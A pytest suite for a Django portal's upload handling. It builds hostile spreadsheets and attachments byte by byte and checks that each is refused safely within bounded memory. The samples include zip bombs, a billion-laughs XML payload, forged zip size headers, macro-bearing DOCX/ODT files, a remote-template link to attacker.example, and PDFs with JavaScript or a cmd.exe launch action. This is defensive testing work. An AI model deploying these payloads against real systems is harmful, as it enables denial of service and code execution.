"""Hostile uploads, built here byte by byte: each is refused with a message next to the file field, never a 500,
nothing already saved changes, and the request stays within bounded memory (its time is printed with -s: a
figure for the record, never an assertion that a loaded machine would break).

Memory is tracemalloc's peak over the request, which the test client runs in this process; the multipart body and
the stream the request reads it from are made before the measurement starts, so the figure is the portal's alone.
"""

import io
import os
import re
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import BOUNDARY, MULTIPART_CONTENT, FakePayload, encode_multipart
from django.urls import reverse

from assessments.models import Attachment, MeasureStatus, SectionState
from assessments.questionnaire.sections import ANSWER_MODELS
from tests.assessments import helpers

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
PEAK_LIMIT = 50 * MB
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
FIGURES = {}  # test id: (peak bytes, seconds), printed with -s for the record; time is a figure, never a test


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture(scope="module", autouse=True)
def _report_figures():
    yield
    for name, (peak, seconds) in sorted(FIGURES.items()):
        print(f"\n{name}: peak {peak / MB:.1f} MB, {seconds:.2f} s", end="")


def post_measured(client, url, field, name, content, request):
    body = encode_multipart(BOUNDARY, {field: SimpleUploadedFile(name, content)})
    environ = {"REQUEST_METHOD": "POST", "PATH_INFO": url, "CONTENT_TYPE": MULTIPART_CONTENT,
               "CONTENT_LENGTH": str(len(body)), "wsgi.input": FakePayload(body)}
    del body
    tracemalloc.start()
    try:
        started = time.monotonic()
        response = client.request(**environ)
        elapsed = time.monotonic() - started
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    FIGURES[request.node.name] = (peak, elapsed)
    assert response.status_code != 500
    assert peak < PEAK_LIMIT, f"{peak / MB:.1f} MB"
    return response


def field_errors(response, field):
    form = response.context["form"]
    return " ".join(form.errors.get(field, []))


# Workbooks --------------------------------------------------------------------------------------------------------

def answers(draft):
    return ([list(model.objects.filter(assessment=draft, version=None).order_by("pk").values())
             for model in ANSWER_MODELS],
            list(SectionState.objects.filter(assessment=draft).order_by("section").values_list("revision", flat=True)))


@pytest.fixture
def exported(client, draft, reporter_at):
    """The draft's own workbook, as downloaded: every hostile workbook below is this one, altered."""
    helpers.fill(draft)
    client.force_login(reporter_at)
    return client.get(reverse("assessments:workbook", args=[draft.pk])).content


def sheet_part(content, title):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet name="{re.escape(title)}"[^>]*r:id="(\w+)"', workbook)[1]
    return re.search(rf'Target="/?([^"]+)" Id="{rid}"', rels)[1]


def rebuild(content, replace=None, add=(), compresslevel=6):
    """The workbook `content` with some parts replaced: {name: bytes, or a function writing to the part}."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as target:
        for info in source.infolist():
            new = replace.get(info.filename, source.read(info.filename))
            if callable(new):
                with target.open(info.filename, "w") as part:
                    new(part, source.read(info.filename))
            else:
                target.writestr(info.filename, new)
        for name, data in add:
            target.writestr(name, data)
    return out.getvalue()


def with_rows(rows_xml):
    """A part writer adding `rows_xml` at the end of the sheet's data."""
    def write(part, original):
        head, tail = original.split(b"</sheetData>")
        part.write(head + rows_xml + b"</sheetData>" + tail)
    return write


def upload_workbook(client, draft, content, request):
    return post_measured(client, reverse("assessments:workbook_upload", args=[draft.pk]), "workbook", "filled.xlsx",
                         content, request)


def refused(client, draft, content, request, message):
    before = answers(draft)
    response = upload_workbook(client, draft, content, request)
    assert response.status_code == 400
    assert message in field_errors(response, "workbook"), field_errors(response, "workbook")
    assert message in response.content.decode().replace("&#x27;", "'").replace("&quot;", '"')
    assert answers(draft) == before
    return response


@pytest.fixture(scope="module")
def whitespace_cell_part():
    """The finding: 600 MB of spaces in one cell, written a megabyte at a time (the zip stays below 1 MB)."""
    def write(part, original):
        head, tail = original.split(b"</sheetData>")
        part.write(head + b'<row r="40"><c r="F40" t="inlineStr"><is><t xml:space="preserve">')
        spaces = b" " * MB
        for _ in range(600):
            part.write(spaces)
        part.write(b"</t></is></c></row></sheetData>" + tail)
    return write


def test_a_cell_of_600_mb_of_spaces_is_refused_from_the_declared_size(client, draft, exported, request,
                                                                      whitespace_cell_part):
    content = rebuild(exported, {sheet_part(exported, "Risk scenarios"): whitespace_cell_part}, compresslevel=9)
    assert len(content) < MB
    refused(client, draft, content, request, "Sheet “Risk scenarios” of the workbook unpacks to 600.0")


def test_a_zip_that_lies_about_the_unpacked_size_is_read_no_further_than_it_says(client, draft, exported, request,
                                                                                 whitespace_cell_part):
    part = sheet_part(exported, "Risk scenarios")
    content = bytearray(rebuild(exported, {part: whitespace_cell_part}, compresslevel=9))
    # Rewrite the declared unpacked size of the part, in its local header and in the central directory, to 4 KB.
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.find(signature + b"")
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if content[name_at:name_at + len(part)] == part.encode():
                struct.pack_into("<L", content, at + offset, 4096)
            at = content.find(signature, at + 4)
    refused(client, draft, bytes(content), request, "This is not an XLSX workbook.")


def test_a_long_run_of_spaces_within_the_size_limits_is_refused_before_it_is_parsed(client, draft, exported,
                                                                                    request):
    def write(part, original):
        head, tail = original.split(b"</sheetData>")
        part.write(head + b'<row r="40"><c r="F40" t="inlineStr"><is><t xml:space="preserve">')
        for _ in range(4):  # under the 5 MB a sheet may unpack to
            part.write(b" " * MB)
        part.write(b"</t></is></c></row></sheetData>" + tail)
    content = rebuild(exported, {sheet_part(exported, "Risk scenarios"): write})
    refused(client, draft, content, request,
            "The workbook has a cell longer than 20,000 characters on sheet “Risk scenarios”.")


def test_a_cell_longer_than_20000_characters_is_refused_naming_it(client, draft, exported, request):
    row = b'<row r="5"><c r="F5" t="inlineStr"><is><t>' + b"x" * 25_000 + b"</t></is></c></row>"
    part = sheet_part(exported, "Risk scenarios")
    content = rebuild(exported, {part: lambda out, original: out.write(
        re.sub(rb'<row r="5".*?</row>', row, original, flags=re.S))})
    refused(client, draft, content, request, "Cell F5 of sheet “Risk scenarios” holds 25,000 characters")


def test_a_single_cell_on_the_last_row_of_excel_is_refused_at_once(client, draft, exported, request):
    content = rebuild(exported, {sheet_part(exported, "Risk scenarios"): with_rows(
        b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>')})
    assert len(content) < 20 * 1024
    refused(client, draft, content, request,
            "The workbook has more than 2000 rows on sheet “Risk scenarios”; the template has 10.")
    assert FIGURES[request.node.name][1] < 2


def test_rows_without_numbers_count_one_after_another(client, draft, exported, request):
    content = rebuild(exported, {sheet_part(exported, "Toolbox measures"): with_rows(b"<row/>" * 3000)})
    refused(client, draft, content, request, "more than 2000 rows on sheet “Toolbox measures”; the template has 30.")


def test_a_cell_beyond_column_50_is_refused(client, draft, exported, request):
    content = rebuild(exported, {sheet_part(exported, "Suppliers"): with_rows(
        b'<row r="3"><c r="XFD3"><v>1</v></c></row>')})
    refused(client, draft, content, request, "more than 50 columns on sheet “Suppliers”; the template has 13.")


def test_a_row_of_a_million_cells_is_refused_without_holding_them(client, draft, exported, request):
    content = rebuild(exported, {sheet_part(exported, "Suppliers"): with_rows(b'<row r="3">' + b"<c/>" * 1_000_000
                                                                                  + b"</row>")})
    refused(client, draft, content, request, "more than 50 columns on sheet “Suppliers”")


def test_a_declared_dimension_beyond_the_limits_is_refused(client, draft, exported, request):
    part = sheet_part(exported, "Key assets")
    content = rebuild(exported, {part: lambda out, original: out.write(
        re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', original))})
    refused(client, draft, content, request, "more than 2000 rows on sheet “Key assets”; the template has 9.")


def test_a_hundred_thousand_merged_ranges_outside_the_rows_are_refused(client, draft, exported, request):
    merges = b"<mergeCells>" + b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, 100_001)) + \
        b"</mergeCells>"
    part = sheet_part(exported, "Key assets")
    content = rebuild(exported, {part: lambda out, original: out.write(
        original.replace(b"</sheetData>", b"</sheetData>" + merges))})
    refused(client, draft, content, request, "Sheet “Key assets” of the workbook holds far more than the template")


def test_more_than_20_sheets_are_refused(client, draft, exported, request):
    extra = range(10, 31)
    def workbook(out, original):
        out.write(original.replace(b"</sheets>", b"".join(
            b'<sheet name="Extra %d" sheetId="%d" r:id="rId%d" />' % (n, n, n) for n in extra) + b"</sheets>"))
    def rels(out, original):
        out.write(original.replace(b"</Relationships>", b"".join(
            b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="/xl/worksheets/sheet%d.xml" Id="rId%d" />' % (n, n) for n in extra) + b"</Relationships>"))
    content = rebuild(exported, {"xl/workbook.xml": workbook, "xl/_rels/workbook.xml.rels": rels},
                      add=[(f"xl/worksheets/sheet{n}.xml", b"<worksheet/>") for n in extra])
    refused(client, draft, content, request, "The workbook has 30 sheets; at most 20 are accepted.")


def test_entity_expansion_is_refused(client, draft, exported, request):
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10 if n > 1 else b"&lol;" * 10)
                         for n in range(1, 10))
              + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>')
    content = rebuild(exported, {"[Content_Types].xml": lambda out, original: out.write(original.replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))}, add=[("xl/sharedStrings.xml", laughs)])
    refused(client, draft, content, request, "The workbook contains a document type declaration")


def test_a_zip_bomb_of_many_parts_is_refused_from_its_end_record(client, draft, exported, request):
    content = rebuild(exported, add=[(f"xl/media/padding{n}.bin", b"") for n in range(3000)])
    refused(client, draft, content, request, "The workbook is made of 3017 parts; at most 500 are accepted.")


def test_a_zip_bomb_of_large_parts_is_refused_from_the_declared_sizes(client, draft, exported, request):
    # Each part below the per-part limit: it is the total that is too large.
    content = rebuild(exported, add=[(f"xl/media/image{n}.png", b"\0" * (4 * MB)) for n in range(6)],
                      compresslevel=9)
    refused(client, draft, content, request, "The workbook unpacks to 24.0")


def test_a_workbook_at_the_limits_is_read_within_bounded_memory(client, draft, exported, request):
    """The most text the limits let through, in characters Python stores at four bytes each, read whole."""
    cell = "😀".encode() * 5_000

    def filler(part, original):
        head, tail = original.split(b"</sheetData>")
        part.write(head)
        for row in range(100, 340):
            part.write(b'<row r="%d"><c r="E%d" t="inlineStr"><is><t>%s</t></is></c></row>' % (row, row, cell))
        part.write(b"</sheetData>" + tail)
    content = rebuild(exported, {sheet_part(exported, title): filler
                                 for title in ("Suppliers", "Key assets", "Main threats", "Threat actors")})
    assert upload_workbook(client, draft, content, request).status_code == 302  # rows the template does not have


def test_a_picture_in_the_workbook_is_not_mistaken_for_a_long_text(client, draft, exported, request):
    picture = b"\x01\x00\x00\x00<" + b"\x00" * (3 * MB)  # an EMF's long runs of zeros hold no "<" to end a "text"
    content = rebuild(exported, add=[("xl/media/image1.emf", picture)])
    assert upload_workbook(client, draft, content, request).status_code == 302


def test_a_file_that_is_not_a_zip_is_refused(client, draft, exported, request):
    refused(client, draft, b"PK\x03\x04" + b"\x00" * 5000, request, "This is not an XLSX workbook.")


def test_a_workbook_over_5_mb_is_refused_by_its_size_before_being_read(client, draft, exported, request):
    # Not even a zip: only the size can be refusing it.
    refused(client, draft, b"\x00" * (5 * MB + 1), request, "The workbook is 5.0 MB; a workbook may be at most 5 MB.")


def test_an_honest_workbook_is_still_applied_within_the_same_bounds(client, draft, exported, request):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(exported))
    workbook["Toolbox measures"]["C4"] = "Applied"
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = upload_workbook(client, draft, buffer.getvalue(), request)
    assert response.status_code == 302
    assert MeasureStatus.objects.get(assessment=draft, version=None, measure__code="SM03").status == "applied"


# Attachments ------------------------------------------------------------------------------------------------------

def ooxml(main="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", extra=(),
          types_extra=""):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types_extra}</Types>'))
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def odt(extra=(), content="<office:document-content/>"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", "<manifest/>", zipfile.ZIP_DEFLATED)
        for name, data in extra:
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def object_stream(objects):
    data = zlib.compress(objects)
    head = b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(data)
    return (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n" + head + data
            + b"\nendstream\nendobj\n%%EOF\n")


@pytest.fixture
def attached(client, draft, reporter_at):
    """A draft that already has one attachment: no refusal below may lose it."""
    client.force_login(reporter_at)
    url = reverse("assessments:attachments", args=[draft.pk])
    assert client.post(url, {"file": SimpleUploadedFile("method.pdf", PDF)}).status_code == 302
    return Attachment.objects.get()


def attach(client, draft, name, content, request):
    return post_measured(client, reverse("assessments:attachments", args=[draft.pk]), "file", name, content, request)


ONE_GB_OF_ZEROS = "one GB of zeros"


@pytest.fixture(scope="module")
def docx_bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        with archive.open("word/media/image1.png", "w") as part:
            block = b"\0" * (16 * MB)
            for _ in range(64):
                part.write(block)
    return buffer.getvalue()


@pytest.mark.parametrize("name, content, message", [
    ("evidence.html", PDF, "is a PDF document by its content, but its name does not end in .pdf"),
    ("evidence.hta", PDF, "is a PDF document by its content, but its name does not end in .pdf"),
    ("evidence", PDF, "is a PDF document by its content, but its name does not end in .pdf"),
    ("tool.exe", MZ, "is not a PDF, XLSX, DOCX or ODT document"),
    ("report.pdf.exe", PDF, "but its name does not end in .pdf"),
    ("report.pdf.exe", MZ, "is not a PDF, XLSX, DOCX or ODT document"),
    ("evidence.pdf.html", PDF, "but its name does not end in .pdf"),
    ("evidence.exe.pdf", PDF, "has “.exe” inside its name, which could make it pass for a program"),
    ("notes.docx.pdf", ooxml(), "is a DOCX document by its content, but its name does not end in .docx"),
    ("notes.docx", ooxml(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
     "contains macros (word/vbaProject.bin)"),
    ("notes.docx", ooxml(extra=[("customXml/deep/VBAPROJECT.BIN", b"x")]), "contains macros"),
    ("notes.docm", ooxml(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
     "but its name does not end in .docx"),
    ("notes.docx", ooxml(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
     "contains macros ([Content_Types].xml)"),
    ("notes.docx", ooxml(extra=[("word/activeX/activeX1.xml", "<ax/>")]), "contains ActiveX controls"),
    ("notes.docx", ooxml(extra=[("word/_rels/settings.xml.rels", (
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"))]), "contains a remote template"),
    ("notes.odt", odt(extra=[("Basic/Standard/Module1.xml", "<script/>")]), "contains macros (Basic/Standard"),
    ("notes.odt", odt(extra=[("Scripts/python/evil.py", "import os")]), "contains macros (Scripts/python"),
    ("notes.odt", odt(content='<text:a xlink:href="vnd.sun.star.script:pydoc.py$tempfilepager?language=Python'
                              '&amp;location=share"/>'), "contains scripts (content.xml)"),
    ("scan.pdf", PDF.replace(b"/Pages 2 0 R", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
     "contains JavaScript"),
    ("scan.pdf", PDF.replace(b"/Pages 2 0 R", b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
     "contains JavaScript"),
    ("scan.pdf", object_stream(b"3 0 <</S/JavaScript/JS(app.alert(1))>>"), "contains JavaScript"),
    ("scan.pdf", PDF.replace(b"/Pages 2 0 R", b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "contains a launch action"),
    ("scan.pdf", PDF.replace(b"trailer", b"5 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream\nendobj\n"
                                         b"trailer"), "contains an embedded file"),
    ("scan.pdf", object_stream(b"3 0 <</S/GoTo/D[2 0 R/Fit]>>").replace(b"/FlateDecode", b"/LZWDecode"),
     "cannot check for scripts"),
    ("bomb.docx", ONE_GB_OF_ZEROS, "unpacks to more than 200.0"),
    ("many.docx", ooxml(extra=[(f"word/media/{n}.png", b"") for n in range(2500)]),
     "is made of 2503 parts; a DOCX attachment may hold at most 2000"),
], ids=[
    "html named pdf", "hta named pdf", "no extension", "exe", "pdf.exe with a pdf inside",
    "pdf.exe with a program inside", "pdf.html", "exe.pdf", "docx named pdf", "docx with vbaProject.bin",
    "vbaProject.bin hidden elsewhere", "docm", "macro-enabled docx", "activex", "remote template", "odt with Basic",
    "odt with Scripts", "odt with a script link", "pdf with JavaScript", "pdf with escaped names",
    "pdf with JavaScript in an object stream", "pdf with a launch action", "pdf with an embedded file",
    "pdf with an object stream it cannot read", "zip bomb", "too many parts",
])
def test_dangerous_attachments_are_refused_and_nothing_attached_is_lost(client, draft, attached, request,
                                                                        docx_bomb, name, content, message):
    content = docx_bomb if content == ONE_GB_OF_ZEROS else content
    response = attach(client, draft, name, content, request)
    assert response.status_code == 400
    assert message in field_errors(response, "file"), field_errors(response, "file")
    assert list(Attachment.objects.values_list("pk", "name", "removed_at")) == [(attached.pk, "method.pdf", None)]
    assert "method.pdf" in response.content.decode()  # the list of what is attached is still on the page


def test_a_pdf_whose_object_streams_hold_no_script_is_attached(client, draft, attached, request):
    response = attach(client, draft, "annex.pdf", object_stream(b"3 0 <</S/GoTo/D[2 0 R/Fit]>>"), request)
    assert response.status_code == 302


def test_a_large_honest_docx_is_checked_from_its_temporary_file_and_attached(client, draft, attached, request,
                                                                             settings):
    image = os.urandom(settings.FILE_UPLOAD_MAX_MEMORY_SIZE + MB)  # does not compress: the upload stays this large
    response = attach(client, draft, "annex.docx", ooxml(extra=[("word/media/image1.png", image)]), request)
    assert response.status_code == 302
    assert Attachment.objects.latest("pk").content_type.endswith("wordprocessingml.document")


def test_a_name_with_a_harmless_inner_dot_is_kept(client, draft, attached, request):
    assert attach(client, draft, "annex.v2.PDF", PDF + b"%v2\n", request).status_code == 302
    assert Attachment.objects.latest("pk").name == "annex.v2.pdf"


def test_an_oversized_attachment_is_refused_by_its_size_before_its_content_is_read(client, draft, attached,
                                                                                   request):
    # Not a PDF at all: had its content been read first, the message would say so.
    response = attach(client, draft, "big.pdf", MZ + b"\0" * (20 * MB), request)
    assert response.status_code == 400
    assert "attachments may be at most 20 MB" in field_errors(response, "file")
    assert Attachment.objects.count() == 1


def test_downloads_are_attachments_under_a_safe_name_with_the_detected_type(client, draft, attached):
    # A row stored before these rules, under the name it came with.
    Attachment.objects.filter(pk=attached.pk).update(name="evidence.html")
    response = client.get(reverse("assessments:attachment", args=[draft.pk, attached.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="evidence_html.pdf"'
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == PDF
